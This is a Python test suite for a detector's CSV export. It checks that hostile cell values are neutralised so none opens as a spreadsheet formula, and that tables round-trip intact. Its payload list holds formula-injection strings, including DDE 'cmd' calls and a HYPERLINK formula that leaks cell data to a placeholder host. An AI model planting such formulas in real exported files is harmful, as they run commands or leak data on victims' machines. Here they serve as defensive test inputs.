"""Tables as CSV: nothing in them is a formula, and all of them is there."""

import csv
import json
from datetime import UTC, datetime
from itertools import cycle, islice
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from detector.report.csv_tables import write_csv
from detector.report.escape import CELL_CHARS, csv_cell
from detector.schema import CAMPAIGNS, SCORED_ACCOUNTS, TIME

NAUGHTY = Path(__file__).parents[3] / "shared/data/hostile/blns.json"
SIGNS = ("=", "+", "-", "@", "\u2212", "＝", "＋", "－", "＠")
FIRST = (*SIGNS, "\t", "\r", "\n")
PAYLOADS = (
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1", "\u3000＝1", "\ufeff=1+1", "\u200b=1+1", "\u2060@x", "\u202e=1", "\x00=1+1", "\x1b[31m=1", "\x1c-1",
    '=HYPERLINK("http://evil.example/?"&A1,"look")', "＝１＋１", "－１", "＋１", "＠a", "\u22121", "\x85+1",
    "fine;=1+1", "fine; @x", 'fine;"=1+1', 'x";=1+1;"', "two\n=1+1", "two\r\n+1", "a;;=1", "a\n\n=1", "tab\t=1", ";-)",
    '"=1+1"', "'=1+1", "=" * 40_000, "x" * 40_000, "😀" * 20_000, "汉" * 33_000, "", " ", "\t", "ordinary, words",
)  # fmt: skip


def payloads():
    """Return hostile texts: our own, and the list of naughty strings where it is."""
    naughty = json.loads(NAUGHTY.read_text(encoding="utf-8")) if NAUGHTY.is_file() else []
    texts = [*PAYLOADS, *naughty]
    return texts + [start + text for text in texts if len(text) < 1_000 for start in FIRST]


def cells_of(path, delimiter=","):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter, strict=delimiter == ","))


def accounts_called(texts):
    rows = [dict.fromkeys(SCORED_ACCOUNTS.columns) | {"account": text, "author_name": text} for text in texts]
    return pl.DataFrame(rows, schema=SCORED_ACCOUNTS.dtypes(), orient="row")


@pytest.fixture(scope="module", autouse=True)
def _long_cells():
    before = csv.field_size_limit(10**6)
    yield
    csv.field_size_limit(before)


def test_ten_thousand_hostile_cells_are_no_formulas(tmp_path):
    texts = list(islice(cycle(payloads()), 10_000))
    write_csv({"accounts": accounts_called(texts)}, {}, tmp_path / "accounts.csv")
    header, *rows = cells_of(tmp_path / "accounts.csv")
    assert len(rows) == 10_000
    at = header.index("author_name")
    for text, row in zip(texts, rows, strict=True):
        assert len(row) == len(header)
        for cell in (row[0], row[at]):
            assert not cell.startswith(FIRST), ascii(cell[:40])
            assert not cell.lstrip(" \u00a0\u3000\u200b\ufeff").startswith(SIGNS), ascii(cell[:40])
            assert len(cell.encode("utf-16-le")) // 2 <= 32_767
            assert not any(control in cell for control in "\x00\x1b\x1c\x85")
            # Twin: the rule in words, applied one text at a time.
            assert cell == csv_cell(text)


def test_where_semicolons_separate_cells_none_of_them_is_a_formula_either(tmp_path):
    """Excel in French or German cuts the same bytes at semicolons, and then quotes stand inside cells."""
    texts = payloads()
    write_csv({"accounts": accounts_called(texts)}, {}, tmp_path / "accounts.csv")
    pieces = [piece for row in cells_of(tmp_path / "accounts.csv", ";") for cell in row for piece in cell.split("\n")]
    assert len(pieces) > len(texts)
    for piece in pieces:
        assert not piece.lstrip(" \t\r\u00a0\u200b\ufeff").startswith(SIGNS), ascii(piece[:60])


def test_the_list_of_naughty_strings_was_among_them():
    if not NAUGHTY.is_file():
        pytest.skip(f"{NAUGHTY} is absent")
    assert len(payloads()) > 5_000


@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=60))
def test_the_fast_way_gives_what_the_slow_way_gives(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("twin") / "accounts.csv"
    texts = [text, *(start + text for start in (*FIRST, " =", ";", ";=", "a\n-", ';"+'))]
    write_csv({"accounts": accounts_called(texts)}, {}, path)
    assert [row[0] for row in cells_of(path)[1:]] == [csv_cell(text) for text in texts]


def read_back(path, frame):
    """Read a table as a person with Polars would: by the types of the schema."""
    held = {
        name: pl.String if dtype.is_temporal() or isinstance(dtype, pl.List) else dtype
        for name, dtype in frame.schema.items()
    }
    extra = {"comment": pl.String} if path.stem == "comments" else {}
    read = pl.read_csv(path, schema=extra | held)
    return read.with_columns(
        pl.col(name).str.to_datetime(time_unit="us", time_zone="UTC")
        if dtype.is_temporal()
        else pl.col(name).str.split(" ")
        for name, dtype in frame.schema.items()
        if held[name] != dtype
    )


def test_tables_read_back_as_they_were(tmp_path, frames):
    for name in sorted(frames.keys() - {"rejects"}):
        path = tmp_path / f"{name}.csv"
        write_csv(frames, {}, path)
        read = read_back(path, frames[name])
        if name == "comments":
            keys = frames[name].select(pl.concat_str("platform", pl.lit(":"), "id"))
            assert read["comment"].to_list() == keys.to_series().to_list()
            read = read.drop("comment")
        assert read.equals(frames[name]), name


def test_the_bytes_are_what_spreadsheets_ask_for(tmp_path, frames):
    write_csv(frames, {}, tmp_path / "campaigns.csv")
    content = (tmp_path / "campaigns.csv").read_bytes()
    assert content.startswith(b'\xef\xbb\xbf"campaign_id","tier",')
    assert content.count(b"\xef\xbb\xbf") == 1
    assert content.count(b"\r\n") == content.count(b"\n") == frames["campaigns"].height + 1
    assert b'"en fr zh","2023-08-30 09:00:00","2023-08-31 09:00:00",0.93,' in content


def test_long_ids_stay_as_they_are_and_have_a_key_that_is_no_number(tmp_path, frames):
    ids = [f"{1698765432101234567 + i}" for i in range(frames["comments"].height)]
    comments = frames["comments"].with_columns(id=pl.Series(ids))
    write_csv({"comments": comments}, {}, tmp_path / "comments.csv")
    header, *rows = cells_of(tmp_path / "comments.csv")
    assert header[:2] == ["comment", "id"]
    assert [row[:2] for row in rows] == [[f"x:{name}", name] for name in ids]


def test_parts_of_a_long_table_are_one_table(tmp_path, monkeypatch, frames):
    write_csv(frames, {}, tmp_path / "comments.csv")
    whole = (tmp_path / "comments.csv").read_bytes()
    monkeypatch.setattr("detector.report.csv_tables._ROWS", 7)
    write_csv(frames, {}, tmp_path / "comments.csv")
    assert (tmp_path / "comments.csv").read_bytes() == whole


def test_what_is_unknown_is_an_empty_cell_and_fractions_of_a_second_stay(tmp_path):
    row = dict.fromkeys(CAMPAIGNS.columns) | {"campaign_id": "c1", "languages": [], "label": ""}
    row |= {"start": datetime(2023, 1, 2, 3, 4, 5, 120_000, tzinfo=UTC)}
    frame = pl.DataFrame([row], schema=CAMPAIGNS.dtypes(), orient="row")
    assert frame.schema["start"] == TIME
    write_csv({"campaigns": frame}, {}, tmp_path / "campaigns.csv")
    line = (tmp_path / "campaigns.csv").read_text(encoding="utf-8-sig").splitlines()[1]
    assert line == '"c1",,,,"",,,,,"","2023-01-02 03:04:05.120",,,'


def test_a_cell_ends_before_spreadsheets_cut_it(tmp_path):
    write_csv({"accounts": accounts_called(["=" * 50_000])}, {}, tmp_path / "accounts.csv")
    [cell] = [row[0] for row in cells_of(tmp_path / "accounts.csv")[1:]]
    assert cell == "'" + "=" * (CELL_CHARS - 2) + "…"
